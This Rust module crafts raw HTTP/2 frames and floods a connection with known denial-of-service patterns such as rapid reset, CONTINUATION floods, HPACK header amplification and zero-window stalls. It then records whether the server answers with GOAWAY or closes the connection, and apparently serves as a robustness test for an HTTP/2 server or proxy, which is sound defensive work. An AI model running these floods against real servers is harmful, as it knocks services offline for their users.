//! HTTP/2 as an attacker writes it: bare frames, no rules (RFC 9113 6).

use std::io;
use std::sync::atomic::{AtomicI64, Ordering};

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::sync::{Notify, mpsc};

/// A frame's type.
#[allow(missing_docs, reason = "they are the RFC's")]
pub mod kind {
    pub const DATA: u8 = 0;
    pub const HEADERS: u8 = 1;
    pub const PRIORITY: u8 = 2;
    pub const RST_STREAM: u8 = 3;
    pub const SETTINGS: u8 = 4;
    pub const PING: u8 = 6;
    pub const GOAWAY: u8 = 7;
    pub const WINDOW_UPDATE: u8 = 8;
    pub const CONTINUATION: u8 = 9;
}

/// What an error code of GOAWAY says to a flood (RFC 9113 7).
pub const ENHANCE_YOUR_CALM: u32 = 11;

const END_HEADERS: u8 = 4;
const ACK: u8 = 1;

/// One frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request; of HPACK (RFC 7541) only literals are used.
pub fn request(stream: u32, method: &str, authority: &str, more: &[u8]) -> Vec<u8> {
    let literal = |index: u8, value: &str| [&[index, value.len() as u8], value.as_bytes()].concat();
    let block = [literal(2, method), literal(1, authority), more.to_vec()].concat();
    frame(kind::HEADERS, END_HEADERS, stream, &block)
}

/// The client's preface and its settings.
pub fn preface(settings: &[u8]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(kind::SETTINGS, 0, 0, settings)[..]].concat()
}

/// What is sent over and over.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// For people.
    pub name: &'static str,
    /// Before it.
    once: fn() -> Vec<u8>,
    /// Whether stream 1 is opened then.
    open: bool,
    /// The n-th time, from 0.
    again: fn(u32, &str) -> Vec<u8>,
    /// Payload of DATA each time; it needs the server's window.
    data: i64,
    /// Whether the server has to end it.
    pub ends: bool,
}

const PLAIN: Attack =
    Attack { name: "", open: false, once: Vec::new, again: |_, _| Vec::new(), data: 0, ends: true };

/// Asks an echo server for bytes that it never lets come: it ends by waiting for ever.
pub const STALLED: Attack = Attack {
    name: "a window that never opens",
    // SETTINGS_INITIAL_WINDOW_SIZE.
    once: || frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
    open: true,
    again: |_, _| frame(kind::DATA, 0, 1, &[7; 8192]),
    data: 8192,
    ends: false,
};

/// All that a stranger may think of.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid reset",
        again: |n, authority| {
            let reset = frame(kind::RST_STREAM, 0, odd(n), &8u32.to_be_bytes());
            [request(odd(n), "CONNECT", authority, &[]), reset].concat()
        },
        ..PLAIN
    },
    Attack { name: "requests without CONNECT", again: |n, at| request(odd(n), "DELETE", at, &[]), ..PLAIN },
    Attack { name: "requests to nowhere", again: |n, _| request(odd(n), "CONNECT", "nowhere", &[]), ..PLAIN },
    Attack { name: "streams over the limit", again: |n, at| request(odd(n), "CONNECT", at, &[]), ..PLAIN },
    Attack { name: "PING", again: |_, _| frame(kind::PING, 0, 0, &[7; 8]), ..PLAIN },
    Attack { name: "answers to no PING", again: |_, _| frame(kind::PING, ACK, 0, &[7; 8]), ..PLAIN },
    Attack { name: "SETTINGS", again: |_, _| frame(kind::SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9]), ..PLAIN },
    Attack { name: "PRIORITY", again: |_, _| frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 9]), ..PLAIN },
    Attack { name: "unknown frames", again: |_, _| frame(0xAB, 0, 0, &[]), ..PLAIN },
    Attack {
        name: "resets of one stream",
        open: true,
        again: |_, _| frame(kind::RST_STREAM, 0, 1, &8u32.to_be_bytes()),
        ..PLAIN
    },
    Attack {
        name: "windows opened by one byte",
        again: |_, _| frame(kind::WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        ..PLAIN
    },
    Attack { name: "empty DATA", open: true, again: |_, _| frame(kind::DATA, 0, 1, &[]), ..PLAIN },
    Attack {
        name: "CONTINUATION",
        once: || frame(kind::HEADERS, 0, 1, b"\x02\x07CONNECT"),
        again: |_, _| frame(kind::CONTINUATION, 0, 1, b"\x00\x01a\x01b"),
        ..PLAIN
    },
    Attack {
        name: "a header a thousand times",
        again: |n, at| {
            // One entry of the dynamic table, then references to it (RFC 7541 6.1).
            let entry = [&[0x40, 1, b'a', 0x7F, 0xE1, 0x16][..], &[b'x'; 3040]].concat();
            request(odd(n), "CONNECT", at, &[&entry[..], &[0xBE; 8000]].concat())
        },
        ..PLAIN
    },
    Attack {
        name: "DATA of one byte",
        open: true,
        again: |_, _| frame(kind::DATA, 0, 1, b"x"),
        data: 1,
        ends: false,
        ..PLAIN
    },
];

fn odd(n: u32) -> u32 {
    2 * n + 1
}

/// How it ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum End {
    /// The server said so, with this code.
    GoAway(u32),
    /// It closed the connection.
    Closed,
    /// All was sent.
    Enough,
}

/// Sends `attack` up to `times`, on a connection on which nothing has been said yet. `authority` is where requests ask
/// to be connected to.
///
/// # Errors
/// When the server is no HTTP/2 server.
pub async fn flood(
    io: impl AsyncRead + AsyncWrite,
    attack: &Attack,
    authority: &str,
    times: u32,
) -> io::Result<End> {
    let (mut reader, mut writer) = tokio::io::split(io);
    let (answers, mut answer) = mpsc::unbounded_channel::<Vec<u8>>();
    let (window, more) = (AtomicI64::new(0), Notify::new());
    let hear = async {
        loop {
            let Ok(heard) = next(&mut reader).await else { return End::Closed };
            match heard {
                (kind::GOAWAY, _, _, payload) => return End::GoAway(number(&payload[4..8])),
                (kind::SETTINGS, 0, _, payload) => {
                    // SETTINGS_INITIAL_WINDOW_SIZE; it is told once here.
                    let initial = payload.chunks(6).find(|setting| setting[..2] == [0, 4]);
                    window.store(initial.map_or(65_535, |s| number(&s[2..]).into()), Ordering::SeqCst);
                    let _ = answers.send(frame(kind::SETTINGS, ACK, 0, &[]));
                }
                (kind::PING, 0, _, payload) => {
                    let _ = answers.send(frame(kind::PING, ACK, 0, &payload));
                }
                (kind::WINDOW_UPDATE, _, 1, payload) => {
                    window.fetch_add(number(&payload).into(), Ordering::SeqCst);
                    more.notify_one();
                }
                _ => {}
            }
        }
    };
    let say = async {
        writer.write_all(&preface(&[])).await?;
        writer.flush().await?;
        let settled = answer.recv().await.unwrap_or_default();
        writer.write_all(&settled).await?;
        writer.write_all(&(attack.once)()).await?;
        if attack.open {
            writer.write_all(&request(1, "CONNECT", authority, &[])).await?;
        }
        for n in 0..times {
            while window.load(Ordering::SeqCst) < attack.data {
                writer.flush().await?;
                more.notified().await;
            }
            window.fetch_sub(attack.data, Ordering::SeqCst);
            writer.write_all(&(attack.again)(n, authority)).await?;
            while let Ok(answer) = answer.try_recv() {
                writer.write_all(&answer).await?;
            }
        }
        writer.flush().await
    };
    let (mut hear, mut say) = (std::pin::pin!(hear), std::pin::pin!(say));
    Ok(tokio::select! {
        biased;
        end = &mut hear => end,
        said = &mut say => match said {
            Ok(()) if !attack.ends => End::Enough,
            // It may have been told why before.
            _ => hear.await,
        }
    })
}

/// The next frame: kind, flags, stream, payload.
///
/// # Errors
/// At the end.
pub async fn next(reader: &mut (impl AsyncRead + Unpin)) -> io::Result<(u8, u8, u32, Vec<u8>)> {
    let mut head = [0; 9];
    reader.read_exact(&mut head).await?;
    let mut payload = vec![0; number(&[0, head[0], head[1], head[2]]) as usize];
    reader.read_exact(&mut payload).await?;
    Ok((head[3], head[4], number(&head[5..]), payload))
}

fn number(bytes: &[u8]) -> u32 {
    bytes.iter().take(4).fold(0, |sum, byte| sum << 8 | u32::from(*byte))
}
